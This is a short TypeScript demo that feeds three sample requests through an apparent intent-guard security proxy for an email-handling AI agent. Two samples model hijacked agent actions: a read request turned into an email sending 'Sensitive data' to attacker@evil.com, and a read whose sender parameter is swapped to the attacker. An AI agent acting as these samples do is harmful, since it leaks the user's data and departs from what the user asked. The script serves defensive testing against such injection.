#!/usr/bin/env npx tsx
/**
 * Run the security proxy over three canonical requests and print the results.
 *
 * Usage:
 *   npm run demo
 */

import { SecurityProxy, type ActionRequest } from '../src/domains/intent-guard/index.js';

const EXAMPLES: Array<{ title: string; request: ActionRequest }> = [
  {
    title: 'Valid read request',
    request: {
      userPrompt: 'Read the latest email from john@example.com',
      proposedAction: 'read_email',
      actionParams: { from: 'john@example.com', limit: 1 },
    },
  },
  {
    title: 'Hijacked write request',
    request: {
      userPrompt: 'Read the latest email from john@example.com',
      proposedAction: 'write_email',
      actionParams: { to: 'attacker@evil.com', subject: 'Sensitive data', body: 'Here is the data you requested' },
    },
  },
  {
    title: 'Parameter mismatch',
    request: {
      userPrompt: "Read emails from john@example.com with subject 'Project Update'",
      proposedAction: 'read_email',
      actionParams: { from: 'attacker@evil.com', subject: 'Project Update' },
    },
  },
];

const proxy = new SecurityProxy();

EXAMPLES.forEach(({ title, request }, index) => {
  const result = proxy.processRequest(request);
  console.log(`Example ${index + 1} - ${title}:`);
  console.log(JSON.stringify(result, null, 2));
  console.log('');
});
